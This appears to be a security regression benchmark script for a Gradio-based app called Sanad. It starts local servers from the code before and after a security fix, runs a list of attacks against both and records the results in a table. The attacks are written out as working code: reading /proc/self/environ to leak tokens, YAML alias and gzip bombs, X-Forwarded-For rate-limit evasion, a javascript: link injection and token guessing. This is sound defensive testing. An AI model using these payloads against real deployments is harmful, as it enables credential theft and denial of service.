"""Attack a running Sanad as an outsider would, before and after a change, and write the table.

Starts two servers with the same settings (an ask token, an admin token, extractive answers,
30 questions a minute): one from a git worktree of ``--before`` (the code before the security
work), one from this checkout. Every attack of issue #10 is sent to both, and what came back
is described in words. tests/test_security.py asserts the "after" column in `make test`.

    python bench/security.py --before 018dfb4
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench._report import ROOT, machine, table, update_section  # noqa: E402
from tests.processes import free_port, wait_ready  # noqa: E402

ASK, ADMIN = "bench-ask-token", "bench-admin-token"
AUTH = {"X-Sanad-Token": ASK}
ADMIN_AUTH = {"Authorization": f"Bearer {ADMIN}"}
CANARY = "The vault code is 4417-CANARY and it is kept in the north tower."


def file_data(path: str) -> dict:
    return {"path": path, "meta": {"_type": "gradio.FileData"}}


def history_with(path: str) -> list:
    return [{"role": "user", "content": [{"type": "file", "file": file_data(path)}]}]


def config(http: httpx.Client) -> dict:
    """Gradio's page config, as the page embeds it (or /config on a server that serves it)."""
    page = http.get("/").text
    marker = "window.gradio_config = "
    if marker in page:
        return json.JSONDecoder().raw_decode(page[page.index(marker) + len(marker) :])[0]
    return {}


def event(http: httpx.Client, fn_index: int, data: list) -> tuple[int, str]:
    """Join the queue as the page does; the HTTP status of the join and what the event streamed."""
    session = uuid.uuid4().hex[:11]
    body = {"data": data, "fn_index": fn_index, "session_hash": session, "event_data": None, "trigger_id": None}
    joined = http.post("/gradio_api/queue/join", json=body, headers=AUTH)
    if joined.status_code != 200:
        return joined.status_code, joined.text
    lines = []
    with http.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}, headers=AUTH) as r:
        for line in r.iter_lines():
            lines.append(line)
            if '"process_completed"' in line or '"close_stream"' in line:
                break
    return 200, "\n".join(lines)


def leaked(http: httpx.Client, text: str) -> str:
    """Follow any file URL in ``text``; what of the server's secrets it gave away."""
    for url in set(re.findall(r'"url":\s*"([^"]*/gradio_api/file=[^"]+)"', text)):
        got = http.get(url.replace(str(http.base_url).rstrip("/"), ""), headers=AUTH).text
        if ASK in got or ADMIN in got:
            return "downloaded /proc/self/environ: both tokens"
    return ""


def file_read_api(http: httpx.Client) -> str:
    payload = {"data": ["hi", history_with("/proc/self/environ"), None]}
    r = http.post("/gradio_api/api/chat", json=payload)
    return leaked(http, r.text) or f"HTTP {r.status_code}"


def file_read_queue(http: httpx.Client) -> str:
    deps = config(http).get("dependencies", [])
    outcomes = set()
    for fn_index in range(len(deps)):
        for data in (["hi", history_with("/proc/self/environ"), None], [history_with("/proc/self/environ")]):
            status, text = event(http, fn_index, data)
            if found := leaked(http, text):
                return found
            outcomes.add("refused" if status != 200 else "no file in any reply")
    return ", ".join(sorted(outcomes)) or "no handler"


def path_upload(http: httpx.Client, canary: Path) -> str:
    deps = config(http).get("dependencies", [])
    for fn_index, dep in enumerate(deps):
        if len(dep.get("inputs", [])) == 3:  # the old upload handler: (token, files, source)
            event(http, fn_index, [ADMIN, [file_data(str(canary))], "bench"])
    r = http.post("/api/ask", json={"question": "What is the vault code?"}, headers=AUTH).json()
    if "4417-CANARY" in r.get("answer", ""):
        return "the server file was ingested and quoted to askers"
    return "no handler reads a client-named path"


def gradio_api_without_token(http: httpx.Client) -> str:
    r = http.post("/gradio_api/api/false", json={"data": []})
    shown = " (index statistics with the data path)" if "index at" in r.text else ""
    chat = http.post("/gradio_api/api/chat", json={"data": ["Who controls Baghouz?", [], []]})
    return f"api/false HTTP {r.status_code}{shown}, api/chat HTTP {chat.status_code}"


def gradio_upload(http: httpx.Client) -> str:
    r = http.post("/gradio_api/upload", files={"files": ("big.bin", b"\0" * (60 << 20))})
    return f"HTTP {r.status_code} (60 MiB, no token)"


def big_question(http: httpx.Client, pid: int) -> str:
    body = json.dumps({"data": ["x" * (64 << 20), [], []], "fn_index": 0, "session_hash": "big"}).encode()
    with _Growth(pid) as memory:
        r = http.post("/gradio_api/queue/join", content=body, headers={**AUTH, "Content-Type": "application/json"})
    return f"HTTP {r.status_code}, server memory +{memory.peak} MB"


def xff(http: httpx.Client) -> str:
    time.sleep(62)  # the attacks before used up part of the minute's questions: start full
    codes = [
        http.post("/api/ask", json={"question": "Who?"}, headers={**AUTH, "X-Forwarded-For": f"10.1.{i}.1"}).status_code
        for i in range(40)
    ]
    return f"{codes.count(429)} of 40 refused (429)"


def token_in_url(http: httpx.Client) -> str:
    r = http.post(f"/api/ask?token={ASK}", json={"question": "Who controls Baghouz?"})
    policy = http.get("/").headers.get("referrer-policy", "none")
    return f"`/api/ask?token=…`: HTTP {r.status_code}; Referrer-Policy: {policy}"


def javascript_url(http: httpx.Client) -> str:
    record = {"id": "sec-js", "title": "Click me", "text": "A short article.", "url": "javascript:alert(1)"}
    r = http.post("/api/articles", json={"articles": [record]}, headers=ADMIN_AUTH)
    body = r.json()
    return "stored (a live link in the sources panel)" if body.get("added") else f"HTTP {r.status_code}: refused"


ALIAS_BOMB = (
    "---\n"
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdef", "bcdefg"))
    + "title: *g\n---\nBody text of the bomb article.\n"
)


def alias_bomb(http: httpx.Client, pid: int) -> str:
    started = time.perf_counter()
    with _Growth(pid) as memory:
        r = http.post("/api/articles", files={"files": ("bomb.md", ALIAS_BOMB.encode())}, headers=ADMIN_AUTH)
    took = time.perf_counter() - started
    return f"HTTP {r.status_code} in {took:.1f} s, server memory +{memory.peak} MB, {_said(r)}"


def dot_run(http: httpx.Client) -> str:
    text = ("Start. " + "." * 40_000 + "x").encode()
    started = time.perf_counter()
    r = http.post("/api/articles", files={"files": ("dots.txt", text)}, headers=ADMIN_AUTH, timeout=600)
    return f"HTTP {r.status_code} after {time.perf_counter() - started:.1f} s (40,000 dots)"


def gzip_bomb(http: httpx.Client, pid: int) -> str:
    """300 distinct 1.9 M-character articles that compress 1000:1; the server's memory 40 s into the upload."""
    stream = io.BytesIO()
    with gzip.GzipFile(fileobj=stream, mode="wb", compresslevel=9) as gz:
        for i in range(300):
            text = f"Article {i}. " + "word " * 380_000
            gz.write(json.dumps({"id": f"bomb-{i}", "text": text}).encode() + b"\n")
    with _Growth(pid) as memory:
        try:
            files = {"files": ("bomb.jsonl.gz", stream.getvalue())}
            http.post("/api/articles", files=files, headers=ADMIN_AUTH, timeout=60)
        except httpx.TimeoutException:
            pass  # still ingesting: what matters is what it holds meanwhile
    size = len(stream.getvalue()) / 2**20
    return f"{size:.1f} MB upload holding 570 MB of text: server memory +{memory.peak} MB in the first 60 s"


def raw_error(http: httpx.Client) -> str:
    deps = config(http).get("dependencies", [])
    for fn_index in range(len(deps)):
        _, text = event(http, fn_index, [None, None, None])
        found = re.search(r'"error":\s*"([^"]{3,120})"', text)
        if found:
            return f"exception text sent: {found.group(1)!r}"
    return "no exception text reaches the client"


def host_header(http: httpx.Client) -> str:
    r = http.get("/", headers={"Host": "rebind.evil.example"})
    return f"HTTP {r.status_code}"


def admin_guesses(http: httpx.Client) -> str:
    codes = [
        http.post("/api/articles", json={"articles": []}, headers={"Authorization": f"Bearer g{i}"}).status_code
        for i in range(20)
    ]
    return f"{codes.count(429)} of 20 guesses refused (429)"


def data_path(http: httpx.Client, data_dir: Path) -> str:
    shown = [where for where, r in (("/config", http.get("/config")), ("/", http.get("/"))) if str(data_dir) in r.text]
    listing = http.get("/api/articles", headers=AUTH).json()
    if "location" in listing.get("stats", {}):
        shown.append("GET /api/articles")
    return "data path shown by " + ", ".join(shown) if shown else "no server path shown"


def _said(r: httpx.Response) -> str:
    try:
        body = r.json()
    except ValueError:
        return r.text[:80]
    if body.get("rejected"):
        return "rejected: " + body["rejected"][0]["reason"][:70]
    if "error" in body:
        return body["error"]["message"][:70]
    return f"{body.get('added', 0)} added"


def _rss_mb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) // 1024
    return 0


class _Growth:
    """How far the server's resident memory rises above its level at the start (sampled 5 times a second)."""

    def __init__(self, pid: int):
        self.pid, self.start, self.peak, self._stop = pid, _rss_mb(pid), 0, threading.Event()

    def __enter__(self) -> _Growth:
        def sample() -> None:
            while not self._stop.wait(0.2):
                self.peak = max(self.peak, _rss_mb(self.pid) - self.start)

        self._thread = threading.Thread(target=sample, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


def start(checkout: Path, data_dir: Path, port: int, log: Path) -> subprocess.Popen:
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("SANAD_")},
        "SANAD_DATA_DIR": str(data_dir),
        "SANAD_PORT": str(port),
        "SANAD_LLM": "extractive",
        "SANAD_API_TOKEN": ASK,
        "SANAD_ADMIN_TOKEN": ADMIN,
        "SANAD_ASKS_PER_MINUTE": "30",
    }
    return subprocess.Popen(
        [sys.executable, "app.py"], cwd=checkout, env=env, stdout=log.open("w"), stderr=subprocess.STDOUT
    )


def attacks(canary: Path, data_dir: Path, pid: int) -> list[tuple[str, Callable[[httpx.Client], str]]]:
    return [
        ("1 critical: file read through the chat value, `POST /gradio_api/api/chat`, no token", file_read_api),
        ("1 critical: the same through `queue/join` (the page's route), every handler", file_read_queue),
        ("2 high: a server path given to a handler (admin token)", lambda h: path_upload(h, canary)),
        ("3 high: `/gradio_api/api/{name}` without the ask token", gradio_api_without_token),
        ("4 medium: `/gradio_api/upload`, 60 MiB, no token", gradio_upload),
        ("5 medium: 64 MB question through `queue/join`", lambda h: big_question(h, pid)),
        ("7 medium: token in URLs", token_in_url),
        ("8 medium: `javascript:` article URL", javascript_url),
        ("9 medium: YAML alias bomb in front matter", lambda h: alias_bomb(h, pid)),
        ("9 medium: a run of 40,000 dots in an article", dot_run),
        ("10 low: the server's data path", lambda h: data_path(h, data_dir)),
        ("11 low: `Host: rebind.evil.example` (DNS rebinding)", host_header),
        ("12 low: raw exception text in Gradio replies", raw_error),
        ("12 low: 20 wrong admin tokens from one address", admin_guesses),
        ("6 medium: 40 questions, a new `X-Forwarded-For` each (limit 30/min)", xff),
        (
            "9 medium: a `.jsonl.gz` bomb: 300 articles of 1.9 M characters (last: it keeps the server busy)",
            lambda h: gzip_bomb(h, pid),
        ),
    ]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--before", default="018dfb4", help="git ref of the code before the change")
    parser.add_argument("--models-from", type=Path, default=ROOT / "data" / "models", help="converted models to copy")
    parser.add_argument("--output", type=Path, default=ROOT / "docs" / "reliability.md")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="sanad-security-"))
    before = work / "before"
    subprocess.run(["git", "worktree", "add", "--detach", str(before), args.before], cwd=ROOT, check=True)
    canary = work / "vault.md"
    canary.write_text(f"# Vault\n\n{CANARY}\n", encoding="utf-8")
    results: dict[str, list[str]] = {}
    try:
        for label, checkout in (("before", before), ("after", ROOT)):
            data_dir = work / f"data-{label}"
            if args.models_from.is_dir():
                shutil.copytree(args.models_from, data_dir / "models")
            port = free_port()
            server = start(checkout, data_dir, port, work / f"{label}.log")
            try:
                wait_ready(f"http://127.0.0.1:{port}", server)
                with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=600) as http:
                    for name, attack in attacks(canary, data_dir, server.pid):
                        try:
                            outcome = attack(http)
                        except httpx.HTTPError as e:
                            outcome = f"{type(e).__name__}"
                        results.setdefault(name, []).append(outcome)
                        print(f"{label:6} {name}: {outcome}", flush=True)
            finally:
                server.kill()  # it may still be ingesting the last attack's upload
                server.wait(timeout=60)
    finally:
        subprocess.run(["git", "worktree", "remove", "--force", str(before)], cwd=ROOT, check=False)
    cell = lambda text: text.replace("|", "\\|")  # noqa: E731
    rows = [[cell(name), *map(cell, outcomes)] for name, outcomes in results.items()]
    body = (
        "## Security: attacks before and after\n\n"
        f"Every attack of issue #10 sent by `bench/security.py` to two servers with the same settings (ask "
        f"and admin tokens set, extractive answers, 30 questions a minute): the code at `{args.before}` and "
        f'this checkout. Measured {machine()}. `tests/test_security.py` asserts the "after" column (and '
        "more variants) in `make test`.\n\n"
        + table(["attack (issue #10 item)", f"before ({args.before})", "after"], rows)
        + "\n\nReproduce: `.venv/bin/python bench/security.py --before "
        + args.before
        + "`"
    )
    update_section(args.output, "security", body)
    print(body)


if __name__ == "__main__":
    main()
